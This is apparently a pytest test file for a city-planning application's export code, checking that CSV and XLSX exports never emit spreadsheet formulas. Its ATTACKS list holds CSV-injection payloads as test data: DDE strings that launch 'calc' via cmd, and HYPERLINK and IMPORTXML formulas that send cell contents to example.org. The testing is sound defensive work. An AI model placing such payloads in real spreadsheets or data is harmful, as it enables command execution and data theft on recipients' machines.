"""Formula injection on export: whatever leaves for a spreadsheet, a text in it is never a formula."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from cityplanner.exchange.cell_texts import safe, unsafe
from cityplanner.exchange.formats import read_sheet
from cityplanner.exchange.intake.apply import apply
from cityplanner.exchange.intake.match import match
from cityplanner.exchange.intake.preview import preview
from cityplanner.exchange.intake.rejected import write_rejected
from cityplanner.exchange.merge_list import write_list
from cityplanner.exchange.recipients import Recipient, Recipients
from cityplanner.exchange.sheet import Row, Sheet
from cityplanner.exchange.spreadsheets import export_xlsx
from cityplanner.exchange.tables import export_csv
from cityplanner.model.entity import fields
from cityplanner.model.field import Kind
from cityplanner.model.nouns import nouns
from cityplanner.model.partner import Partner
from cityplanner.store.plan_file import Plan, create_plan
from tests.conftest import make_office
from tests.exchange.whole_plan import fill
from tests.faults.sizes import size

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
"""What a spreadsheet begins a formula with, their wide forms, and the white space that it skips before them."""
ATTACKS = (
    '=HYPERLINK("http://example.org?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=IMPORTXML("http://example.org","//a")',
    "＝1+1",
    "＠SUM(1)",
    "'=1+1",
    "''=1+1",
    "==1",
    "=1;=2",
    "{=1+1}",
    'x","=1+1',
    "x\n=1+1",
)
_NUMBER = re.compile(r"[-+]?\d+([.,]\d+)*")


def is_harmless(cell: str) -> bool:
    """Whether a spreadsheet takes a cell for a text or for a number, never for a formula."""
    return not cell.startswith(STARTS) or bool(_NUMBER.fullmatch(cell))


def cells(text: str) -> list[list[str]]:
    """The cells of a CSV file, as any program reads them."""
    return list(csv.reader(io.StringIO(text, newline="")))


def formulas(path: Path) -> list[str]:
    """What stands in a spreadsheet as a formula, or as a link that a click would follow."""
    with zipfile.ZipFile(path) as archive:
        parts = [archive.read(name).decode() for name in archive.namelist() if name.endswith(".xml")]
        links = [name for name in archive.namelist() if "externalLink" in name or "sheet1.xml.rels" in name]
    return links + [found for part in parts for found in re.findall(r"<f[ >/]|<hyperlink|t=\"e\"", part)]


def people() -> Recipients:
    """A list of people all of whose texts attack."""
    texts = len(Recipient.__dataclass_fields__) - 2
    made = (Recipient(number, *[attack] * texts) for number, attack in enumerate(ATTACKS))  # type: ignore[arg-type]
    return Recipients("=group", tuple(made), 0)


@pytest.fixture(scope="module")
def whole(tmp_path_factory: pytest.TempPathFactory) -> Plan:
    """A plan with every kind of record, texts that attack among them."""
    made = create_plan(tmp_path_factory.mktemp("whole") / "whole.cityplan", make_office(), user="tester")
    fill(made)
    lines = [attack.replace("\n", " ") for attack in ATTACKS]
    with made.edit("x") as edit:
        edit.add_all([Partner(name=f"{line} {n}", notes=ATTACKS[n]) for n, line in enumerate(lines)])
        edit.add_all([Partner(name=line, city=line) for line in lines])
    return made


def test_no_cell_of_any_csv_export_is_a_formula(whole: Plan, tmp_path: Path) -> None:
    seen = 0
    for noun in nouns().values():
        export_csv(whole, noun, tmp_path / "out.csv")
        for row in cells((tmp_path / "out.csv").read_text("utf-8-sig")):
            assert [cell for cell in row if not is_harmless(cell)] == [], noun
            seen += sum(cell.startswith("'") for cell in row)
    assert seen >= len(ATTACKS), "attacks that are not there prove nothing"


def test_no_cell_of_any_spreadsheet_is_a_formula(whole: Plan, tmp_path: Path) -> None:
    for noun in nouns().values():
        export_xlsx(whole, noun, tmp_path / "out.xlsx")
        assert formulas(tmp_path / "out.xlsx") == [], noun
    export_xlsx(whole, Partner, tmp_path / "out.xlsx")
    read = CalamineWorkbook.from_path(tmp_path / "out.xlsx").get_sheet_by_index(0).to_python()
    assert ATTACKS[0] in {cell for row in read for cell in row}, "it stands there as the text it is"


def test_what_was_harmless_outside_comes_back_as_it_was_typed(whole: Plan, tmp_path: Path) -> None:
    for suffix, export in (("csv", export_csv), ("xlsx", export_xlsx)):
        export(whole, Partner, tmp_path / f"out.{suffix}")
        sheet = read_sheet(tmp_path / f"out.{suffix}")
        found = preview(whole, sheet, Partner, match(sheet.headers, Partner), clear_empty=True)
        assert not found.changes
        assert not found.rejected


def test_no_cell_of_a_mail_merge_list_is_a_formula(tmp_path: Path) -> None:
    written = io.StringIO(newline="")
    assert write_list(people(), written) == len(ATTACKS)
    write_list(people(), tmp_path / "people.csv")
    write_list(people(), tmp_path / "people.xlsx")
    for text in (written.getvalue(), (tmp_path / "people.csv").read_text("utf-8-sig")):
        assert [cell for row in cells(text) for cell in row if not is_harmless(cell)] == []
    assert formulas(tmp_path / "people.xlsx") == []


def test_no_cell_or_column_name_of_the_rejected_rows_is_a_formula(plan: Plan, tmp_path: Path) -> None:
    """They hold what somebody else wrote, the names of the columns as well."""
    headers = ("Name", "Country", *ATTACKS)
    rows = tuple(Row(n, (attack, "Atlantis", *ATTACKS)) for n, attack in enumerate(ATTACKS, 2))
    sheet = Sheet("list.csv", headers, rows)
    found = preview(plan, sheet, Partner, match(headers, Partner))
    assert write_rejected(found, tmp_path / "rejected.csv") == len(ATTACKS)
    read = cells((tmp_path / "rejected.csv").read_text("utf-8-sig"))
    assert [cell for row in read for cell in row if not is_harmless(cell)] == []


def test_what_came_in_as_a_formula_is_a_text_in_the_plan_and_leaves_harmless(
    plan: Plan, tmp_path: Path
) -> None:
    sheet = Sheet(
        "list.csv", ("Name", "Notes"), tuple(Row(n, (f"x{n}", one)) for n, one in enumerate(ATTACKS, 2))
    )
    apply(plan, preview(plan, sheet, Partner, match(sheet.headers, Partner)))
    export_csv(plan, Partner, tmp_path / "out.csv")
    assert all(
        is_harmless(cell) for row in cells((tmp_path / "out.csv").read_text("utf-8-sig")) for cell in row
    )


@settings(max_examples=size(200, 20_000), deadline=None)
@given(st.text(max_size=40), st.sampled_from(("", *STARTS, "'", "''=", " =")))
def test_any_text_survives_being_made_harmless(text: str, start: str) -> None:
    assert unsafe(safe(start + text)) == start + text
    assert not safe(start + text).startswith(STARTS)


def test_a_number_below_zero_stays_a_number(whole: Plan, tmp_path: Path) -> None:
    assert any(field.kind is Kind.NUMBER for field in fields(Partner))
    export_csv(whole, Partner, tmp_path / "out.csv", names=["latitude", "longitude"], ids=[1])
    assert cells((tmp_path / "out.csv").read_text("utf-8-sig"))[1][:2] == ["-89.99999", "-179.99999"]
